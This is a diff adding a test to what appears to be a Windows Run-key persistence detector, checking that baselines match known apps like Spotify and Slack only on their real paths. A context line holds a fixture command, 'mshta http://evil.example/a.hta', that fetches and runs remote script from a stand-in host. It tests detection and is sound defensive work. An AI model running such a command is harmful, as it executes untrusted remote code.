@@ -119,6 +119,27 @@ describe('scoring and baseline regressions', () => {
     expect(severityRank(b.severity)).toBeGreaterThanOrEqual(severityRank('medium'));
   });
 
+  it('baselines known software whose writer is known by file name only (a Defender export without folder paths)', () => {
+    const cases: [string, string, string][] = [
+      ['Spotify', 'C:\\Users\\jsmith\\AppData\\Roaming\\Spotify\\Spotify.exe', 'Spotify.exe'],
+      ['Slack', 'C:\\Users\\jsmith\\AppData\\Local\\slack\\slack.exe --startup', 'slack.exe'],
+      ['Dropbox', 'C:\\Users\\fm\\AppData\\Roaming\\Dropbox\\bin\\Dropbox.exe /systemstartup', 'Dropbox.exe'],
+      ['Zoom', 'C:\\Program Files\\Zoom\\bin\\Zoom.exe', 'Zoom.exe'],
+      ['OneDrive', '"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe" /background', 'OneDrive.exe'],
+    ];
+    for (const [name, value, writer] of cases) {
+      const [f] = analyzeEvents([regSet(`${RUN_HKU}\\${name}`, value, { image: writer })]);
+      expect(f.baseline.status, name).toBe('baselined');
+      expect(f.baseline.reason, name).toContain('known by file name only');
+      // the name and the data still have to be the software's: the same writer name elsewhere is not
+      const [g] = analyzeEvents([regSet(`${RUN_HKU}\\${name}`, `C:\\Users\\Public\\${writer}`, { image: writer })]);
+      expect(g.baseline.status, name).toBe('none');
+    }
+    // a writer with a folder is matched on its folder, never on its name alone
+    const [h] = analyzeEvents([regSet(`${RUN_HKU}\\Spotify`, cases[0][1], { image: 'C:\\Users\\Public\\Spotify.exe' })]);
+    expect(h.baseline.status).toBe('none');
+  });
+
   it('never silences strong indicators with a baseline match: baselined-but-suspicious', () => {
     const ev = regSet(`${RUN_HKU}\\x`, 'mshta http://evil.example/a.hta', { image: 'C:\\Windows\\system32\\reg.exe' });
     const baseline = { format: 'runkey-hunter-baseline' as const, version: 1 as const, entries: [{ id: 'e1', analyst: 'amy', reason: 'lab', date: '2024-01-01', enabled: true, scope: {}, match: { kind: 'host' as const, host: 'WS1' } }] };
